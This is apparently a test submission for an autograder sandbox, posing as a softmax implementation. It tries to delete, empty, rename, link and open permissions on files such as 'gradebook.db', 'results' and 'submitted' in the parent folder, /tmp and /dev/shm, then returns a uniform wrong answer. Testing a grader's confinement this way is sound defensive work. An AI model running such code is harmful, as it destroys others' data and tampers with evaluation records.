"""Deletes, empties and renames whatever it finds in the folders above its own."""

# /// attack
# exercise = "softmax"
# verdicts = ["wrong"]
# confined_only = true
# ///

# %% softmax
import os
import shutil
from pathlib import Path


def softmax(x, dim=-1):
    done = []
    for folder in [Path.cwd().parent, Path("/tmp"), Path("/dev/shm")]:
        for name in ("somebody-elses-file", "left-behind-nothing", "submitted", "results", "gradebook.db"):
            path = folder / name
            ways = [lambda: os.unlink(path), lambda: os.truncate(path, 0), lambda: path.rename(folder / "left-behind"),
                    lambda: shutil.rmtree(path), lambda: os.link(path, "mine"), lambda: os.chmod(path, 0o777)]
            for number, way in enumerate(ways):
                try:
                    way()
                    done.append((number, str(path)))
                except OSError:
                    continue
    if done:
        raise RuntimeError(f"did {done}")
    return torch.full_like(x, 1 / x.size(dim))
